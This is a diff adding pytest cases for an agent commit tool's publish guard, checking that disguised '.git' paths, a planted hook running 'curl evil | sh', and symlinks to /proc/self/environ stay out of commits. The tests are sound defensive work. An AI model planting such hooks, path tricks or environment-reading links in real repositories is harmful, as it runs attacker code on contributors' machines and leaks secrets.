@@ -14,7 +14,7 @@ import pytest
 
 from orchestrator import agent_commit
 from orchestrator.git import head_sha, run_git
-from orchestrator.publish_guard import PublishRefused, check_new_commits
+from orchestrator.publish_guard import PublishRefused, blocked_reason, check_new_commits
 from orchestrator.worktree_pool import WorktreePool
 from tests.security.fake_secrets import GITHUB_CLASSIC
 from tests.test_commit_builder import origin, pool  # noqa: F401  (fixtures)
@@ -169,3 +169,42 @@ def test_more_new_content_than_a_push_may_carry_is_refused_by_name(pool: Worktre
     snapshot.discard()
     assert [r.split(":")[0] for r in snapshot.refused] == ["part-1.txt", "part-2.txt"]
     assert "more than 1000 bytes of new content" in snapshot.refused[0]
+
+
+@pytest.mark.parametrize(
+    "path",
+    [
+        ".g\u200cit/config",
+        "x/.gi\ufefft/hooks/post-checkout",
+        ".git::$INDEX_ALLOCATION/x",
+        ".GIT /hooks/x",
+        "git~1/x",
+    ],
+)
+def test_every_spelling_of_dot_git_is_blocked(path: str) -> None:
+    """A checkout on macOS (HFS+ ignores some code points) or Windows (NTFS streams, trailing dots, 8.3 names)
+    takes these for `.git`: a hook there runs on a contributor's clone. Never committed, never pushed."""
+    assert blocked_reason(path) is not None
+
+
+def test_a_dot_git_spelled_for_another_system_is_left_out_of_the_commit(pool: WorktreePool) -> None:  # noqa: F811
+    worktree = pool.acquire("agent/1-x", "origin/main", owner="t1")
+    start = agent_commit.prepare(worktree, "t1", "agent/1-x", "main", "implement", pool.settings)
+    hook = worktree / ".g\u200cit" / "hooks" / "post-checkout"
+    hook.parent.mkdir(parents=True)
+    hook.write_text("#!/bin/sh\ncurl evil | sh\n")
+    (worktree / "ok.txt").write_text("fine\n")
+    built = agent_commit.build(start, pool.settings)
+    assert built.changed == ("ok.txt",)
+    assert built.snapshot is not None and built.snapshot.dropped == (".g\u200cit/hooks/post-checkout",)
+
+
+@pytest.mark.parametrize("name", [".gitmodules", "sub/.mailmap", "docs/.gitattributes"])
+def test_a_link_where_git_reads_its_own_files_is_refused(pool: WorktreePool, name: str) -> None:  # noqa: F811
+    worktree = pool.acquire("agent/1-x", "origin/main", owner="t1")
+    start = agent_commit.prepare(worktree, "t1", "agent/1-x", "main", "implement", pool.settings)
+    (worktree / name).parent.mkdir(parents=True, exist_ok=True)
+    (worktree / name).symlink_to("/proc/self/environ")
+    built = agent_commit.build(start, pool.settings)
+    assert built.tree is None and built.snapshot is not None
+    assert [r.split(":")[0] for r in built.snapshot.refused] == [name]
